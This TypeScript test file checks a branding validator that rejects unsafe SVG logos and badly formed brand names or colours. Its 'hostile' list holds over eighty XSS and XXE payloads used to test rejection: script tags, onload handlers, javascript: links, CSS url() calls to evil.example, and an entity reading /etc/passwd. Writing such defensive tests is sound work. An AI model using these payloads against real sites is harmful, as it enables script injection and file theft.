import { describe, expect, it } from 'vitest';
import { RecordingLogger } from '../../../test/support/recording-logger.ts';
import { Brand, checkBrand, noBrand } from './branding.ts';
import { contrastWithWhite } from './contrast.ts';
import { svgProblem } from './svg.ts';

const svg = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" ${attributes}>${inner}</svg>`;
const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const logo = svg('<path d="M0 0h10v10z" fill="#123456"/>');

const harmless: Readonly<Record<string, string>> = {
  'a path': logo,
  'an XML declaration': `<?xml version="1.0" encoding="UTF-8"?>\n${logo}`,
  'a comment': svg('<!-- drawn by hand --><circle cx="5" cy="5" r="4"/>'),
  'a gradient and its use': svg(
    '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><rect width="10" height="10" fill="url(#g)"/>',
  ),
  'a reference inside the drawing': svg(`<defs><g id="a"/></defs><use xlink:href="#a"/><use href="#a"/>`, xlink),
  'a style attribute': svg('<rect style="fill:#fff;stroke-width:2;fill-opacity:.5" width="1" height="1"/>'),
  'a title and text': svg('<title>Acme</title><text x="1" y="2" font-family="sans-serif">Acme</text>'),
};

const hostile: readonly string[] = [
  svg('<script>alert(1)</script>'),
  svg('<script href="https://evil.example/x.js"/>'),
  svg('<SCRIPT>alert(1)</SCRIPT>'),
  svg('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
  svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  svg('<script><![CDATA[alert(1)]]></script>'),
  svg('', 'onload="alert(1)"'),
  svg('', 'ONLOAD="alert(1)"'),
  svg('', 'onLoad="alert(1)"'),
  svg('<g onclick="alert(1)"/>'),
  svg('<path onmouseover="alert(1)" d="M0 0"/>'),
  svg('<g onfocusin="alert(1)" tabindex="1"/>'),
  svg('<rect onbegin="alert(1)"/>'),
  svg('<a href="javascript:alert(1)"><text>x</text></a>'),
  svg('<a xlink:href="javascript:alert(1)"/>', xlink),
  svg('<use href="https://evil.example/x.svg#a"/>'),
  svg('<use xlink:href="https://evil.example/x.svg#a"/>', xlink),
  svg('<use href="//evil.example/x.svg#a"/>'),
  svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
  svg('<use href=" #a"/>'),
  svg('<use href="x.svg#a"/>'),
  svg('<use href="#a b"/>'),
  svg('<use xmlns:y="http://www.w3.org/1999/xlink" y:href="https://evil.example/#a"/>'),
  svg('<image href="https://evil.example/x.png"/>'),
  svg('<image xlink:href="data:image/png;base64,AA=="/>', xlink),
  svg('<feImage href="https://evil.example/x.png"/>'),
  svg('<filter id="f"><feImage href="#x"/></filter>'),
  svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x"/></body></foreignObject>'),
  svg('<foreignObject/>'),
  svg('<iframe src="https://evil.example"/>'),
  svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'),
  svg('<embed xmlns="http://www.w3.org/1999/xhtml" src="x"/>'),
  svg('<object data="x"/>'),
  svg('<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>'),
  svg('<audio xmlns="http://www.w3.org/1999/xhtml" src="x"/>'),
  svg('<video xmlns="http://www.w3.org/1999/xhtml" src="x"/>'),
  svg('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/x.css"/>'),
  svg('<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/>'),
  svg('<base xmlns="http://www.w3.org/1999/xhtml" href="https://evil.example"/>'),
  svg('<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"/>'),
  svg('<style>@import url(https://evil.example/x.css);</style>'),
  svg('<style>*{background:url(https://evil.example/x)}</style>'),
  svg('<style/>'),
  svg('<rect style="background:url(https://evil.example/x)"/>'),
  svg('<rect style="fill:url(//evil.example/x#a)"/>'),
  svg('<rect style="fill:url(\'https://evil.example/x#a\')"/>'),
  svg('<rect style="fill:u\\72l(https://evil.example/x)"/>'),
  svg('<rect style="fill:url/**/(https://evil.example)"/>'),
  svg('<rect style="width:expression(alert(1))"/>'),
  svg('<rect style="background:image(https://evil.example)"/>'),
  svg('<rect style="background:image-set(&quot;https://evil.example&quot; 1x)"/>'),
  svg('<rect style="@import &quot;https://evil.example&quot;"/>'),
  svg('<rect style="fill:var(--x)"/>'),
  svg('<rect style="-moz-binding:url(https://evil.example#x)"/>'),
  svg('<rect fill="url(https://evil.example/x#a)"/>'),
  svg('<rect fill="URL(https://evil.example/x#a)"/>'),
  svg('<rect fill="url (https://evil.example/x#a)"/>'),
  svg('<rect clip-path="url(x.svg#a)"/>'),
  svg('<rect mask="url(&#104;ttps://evil.example)"/>'),
  svg('<rect filter="url(#f)"/>'),
  svg('<rect cursor="url(https://evil.example/x.cur)"/>'),
  svg('<animate attributeName="href" to="javascript:alert(1)"/>'),
  svg('<set attributeName="onload" to="alert(1)"/>'),
  svg('<animateTransform attributeName="transform"/>'),
  svg('<animateMotion><mpath href="#a"/></animateMotion>'),
  svg('<handler type="application/ecmascript">alert(1)</handler>'),
  svg('<listener event="click"/>'),
  svg('<rect xlink:fill="#fff"/>', xlink),
  svg('<view id="v"/>'),
  svg('<switch><g/></switch>'),
  svg('<metadata><x:xmpmeta xmlns:x="adobe:ns:meta/"/></metadata>'),
  svg('<g data-x="1"/>'),
  svg('<g xml:base="https://evil.example/"/>'),
  svg('<g xmlns:evil="https://evil.example"/>'),
  svg('<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load"/>'),
  `<!DOCTYPE svg [<!ENTITY x "y">]>${svg('<text>&x;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${logo}`,
  `<?xml-stylesheet href="https://evil.example/x.css"?>${logo}`,
  svg('<text>&undefined;</text>'),
  svg('<g>'),
  `${logo}${logo}`,
  `${logo}<script/>`,
  '<html xmlns="http://www.w3.org/1999/xhtml"/>',
  '<svg viewBox="0 0 1 1"/>',
  '<svg xmlns="https://evil.example" viewBox="0 0 1 1"/>',
  '<svg xmlns="http://www.w3.org/2000/svg"/>',
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox=""/>',
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 10"/>',
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 x 10"/>',
  'plain text',
  '',
  svg('<g>'.repeat(200) + '</g>'.repeat(200)),
];

describe('a logo', () => {
  for (const [name, text] of Object.entries(harmless)) {
    it(`may have ${name}`, () => expect(svgProblem(text)).toBeUndefined());
  }

  it('has been tried with more than eighty payloads', () => expect(hostile.length).toBeGreaterThanOrEqual(80));
  for (const text of hostile) {
    it(`must not be ${JSON.stringify(text).slice(0, 110)}`, () => expect(svgProblem(text)).toEqual(expect.any(String)));
  }
});

describe('a brand', () => {
  const name = 'Acme';
  const rows: Readonly<Record<string, readonly [unknown, string | undefined]>> = {
    'nothing at all': [{}, undefined],
    'empty values, as the chart writes them': [{ name: '', logo: { light: '', dark: '' }, accentColor: '' }, undefined],
    'a whole brand': [{ name, logo: { light: logo, dark: logo }, accentColor: '#005a9c' }, undefined],
    'a name without a logo': [{ name }, 'branding.logo.light is required with branding.name'],
    'a logo without a name': [{ logo: { light: logo } }, 'branding.name must have 1 to 64 characters'],
    'a name of 65 characters': [
      { name: 'x'.repeat(65), logo: { light: logo } },
      'branding.name must have 1 to 64 characters',
    ],
    'a name with markup': [{ name: '<b>Acme</b>', logo: { light: logo } }, 'branding.name must be plain text'],
    'a name with a line break': [{ name: 'Ac\nme', logo: { light: logo } }, 'branding.name must be plain text'],
    'a logo of more than 64 KiB': [
      { name, logo: { light: svg(`<!--${'x'.repeat(65_536)}-->`) } },
      'branding.logo.light is larger than 64 KiB',
    ],
    'a dark logo that breaks a rule': [
      { name, logo: { light: logo, dark: svg('<script/>') } },
      'branding.logo.dark has the element script',
    ],
    'a colour that is too light': [
      { accentColor: '#ffff00' },
      'branding.accentColor has a contrast of 1.07:1 against white; at least 4.5:1 is needed',
    ],
    'a colour that is no #RRGGBB': [{ accentColor: 'red' }, 'branding.accentColor must be written #RRGGBB'],
    'a name that is no text': [{ name: 5 }, 'branding.name must be a text'],
  };
  for (const [title, [values, problem]] of Object.entries(rows)) {
    it(`of ${title}`, async () => {
      const checked = await checkBrand(values);
      expect(checked.ok ? undefined : checked.problem).toBe(problem);
    });
  }

  it('uses the light logo where there is no dark one, and the default colour', async () => {
    expect(await checkBrand({ name, logo: { light: logo } })).toEqual({
      ok: true,
      brand: { name, logo: { light: logo, dark: logo }, accentColor: '#1976d2' },
    });
  });

  it('that breaks a rule is ignored as a whole, with one warning however often it is asked for', async () => {
    const logger = new RecordingLogger();
    const brand = new Brand(() => ({ name, logo: { light: svg('<script/>') }, accentColor: '#005a9c' }), logger);
    for (let index = 0; index < 3; index++) expect(await brand.current()).toEqual(noBrand);
    expect(logger.lines).toEqual([
      {
        level: 'warn',
        message: 'The brand is ignored',
        fields: { problem: 'branding.logo.light has the element script' },
      },
    ]);
  });

  it('has its contrast measured as WCAG does', () => {
    expect(contrastWithWhite('#000000')).toBeCloseTo(21, 5);
    expect(contrastWithWhite('#ffffff')).toBeCloseTo(1, 5);
    expect(contrastWithWhite('#767676')).toBeGreaterThanOrEqual(4.5);
    expect(contrastWithWhite('#777777')).toBeLessThan(4.5);
    expect(contrastWithWhite('#1976d2')).toBeGreaterThanOrEqual(4.5);
  });
});
